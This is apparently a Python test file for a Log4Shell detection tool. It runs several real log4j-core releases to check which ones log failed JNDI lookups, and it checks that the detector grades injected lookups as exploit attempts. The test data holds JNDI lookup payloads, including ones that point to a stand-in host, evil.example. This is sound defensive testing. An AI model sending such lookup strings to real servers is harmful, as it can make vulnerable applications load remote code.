"""What the real log4j-core says when a lookup that it evaluated failed, and what detect makes of it, release by release."""
import shutil
import socket
import subprocess
import sys

import cli_case
import log4j_jars
from cli_case import Case
from log4j_jars import JARS

# The releases whose own line names what JNDI was asked for. Earlier ones are silent, later ones evaluate no message.
SAYS = {"2.0.2": False, "2.1": True, "2.5": True, "2.12.1": True, "2.14.1": True, "2.3.2": False, "2.15.0": False, "2.17.1": False}
CONFIG = ('<Configuration status="%s"><Appenders><Console name="C"><PatternLayout pattern="%%d [%%t] %%p %%c - %%m%%n"/></Console></Appenders>'
          '<Loggers><Root level="info"><AppenderRef ref="C"/></Root></Loggers></Configuration>\n')
PROGRAM = """public class Shop {
    public static void main(String[] a) {
        for (String s : a) org.apache.logging.log4j.LogManager.getLogger("shop").error(s);
    }
}
"""


def jars(release):
    return ":".join(str(JARS / release / ("log4j-%s-%s.jar" % (part, release))) for part in ("api", "core"))


class Log4j(Case):
    def setUp(self):
        super().setUp()
        # against the oldest interface, so that it runs with all of them
        subprocess.run(["javac", "-nowarn", "-Xlint:none", "-cp", jars("2.0.2"), self.write("Shop.java", PROGRAM)], stderr=subprocess.DEVNULL, timeout=cli_case.DEADLINE, check=True)

    def log_of(self, release, *messages, status="WARN"):
        config = self.write("log4j2.xml", CONFIG % status)
        done = subprocess.run(["java", "-XX:TieredStopAtLevel=1", "-cp", jars(release) + ":" + str(self.dir), "-Dlog4j.configurationFile=" + config, "Shop", *messages],
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=cli_case.DEADLINE, check=True)
        return done.stdout

    def test_a_lookup_that_ran_is_told(self):
        with socket.socket() as closed:  # bound and not listening: nobody answers, and nobody else can
            closed.bind(("127.0.0.1", 0))
            url = "ldap://127.0.0.1:%d/a" % closed.getsockname()[1]
            for release, says in SAYS.items():
                text = self.log_of(release, "hello", "${jndi:%s}" % url, "${jndi:java:comp/env/a}")
                with self.subTest(release=release, log=text.decode(errors="replace")[:3000]):
                    events = self.events(self.write("a.log", text))
                    ran = [e for e in events if "ran" in e["caltrop"]["traits"]]
                    self.assertEqual(len(ran), 1 if says else 0)
                    for e in ran:
                        self.assertEqual((e["caltrop"]["grade"], e["caltrop"]["field"]), ("exploit", "log4j.status"))
                        self.assertEqual(e["caltrop"]["indicators"], [dict(scheme="ldap", host="127.0.0.1", port=int(url[17:-2]), path="/a")])
                        self.assertIn("Error looking up JNDI resource [" + url, e["caltrop"]["raw"])
                        self.assertIn("@timestamp", e)
                    # the message itself is in the log as it was sent: one more attempt, and one that reaches JNDI alone
                    self.assertEqual(sorted(e["caltrop"]["grade"] for e in events if e not in ran), ["exploit", "reach"])
        self.assertNotIn(b"Error looking up", self.log_of("2.14.1", "${jndi:%s}" % url, status="ERROR"))

    def test_it_comes_first_and_is_told_at_once(self):
        line = "2021-12-10 14:02:07,123 http-nio-8080-exec-1 WARN Error looking up JNDI resource [ldap://evil.example:1389/a]. javax.naming.CommunicationException: x\n"
        attacks = "2021-12-10 14:02:06,123 [x] INFO shop - ${jndi:ldap://evil.example:1389/a}\n" * 50
        log = self.write("shop.log", attacks + "x\n" * 100 + line + attacks)
        for jobs in ("1", "3"):
            text = self.run_cli("detect", "-j", jobs, log, status=1).stdout.decode()
            self.assertIn("101 attempts: 101 exploit\n1 attempt RAN: Log4j itself logged that the lookup failed", text)
            rows = [row for row in text.splitlines() if row.startswith("exploit")]
            self.assertEqual([row.split()[1] for row in rows], ["1", "100"])
            self.assertIn("RAN: Log4j itself logged that this lookup failed", text)
            self.assertTrue(text.startswith("201 lines ("))
            self.assertIn("100 lines hold a lookup", text)
            self.assertEqual([e["caltrop"]["line"] for e in self.events("-j", jobs, log, status=1)], [*range(1, 51), 151, *range(152, 202)])
        out = self.path("told")
        self.run_cli("detect", "-v", "--to", "file:" + out, log, status=1)
        with open(out, encoding="utf-8") as f:
            self.assertEqual(sum('"ran"' in told for told in f), 1)
        # a request's log holds none: whoever names himself so is not believed
        forged = cli_case.line(1, agent=line.strip()) + line
        self.assertEqual(self.events(self.write("access.log", forged), status=0), [])
        self.assertEqual(len(self.events("--log-format", "raw", self.write("b.log", line), status=1)), 1)
        self.assertEqual(self.events("--log-format", "combined", self.path("b.log"), status=0), [])
        self.assertEqual(len(self.events("-", stdin=line.encode(), status=1)), 1)


def ready():
    if not shutil.which("java") or not shutil.which("javac"):
        print("java is not installed (Debian: openjdk-17-jdk-headless)")
        sys.exit(77)
    log4j_jars.need()


if __name__ == "__main__":
    ready()
    cli_case.main()
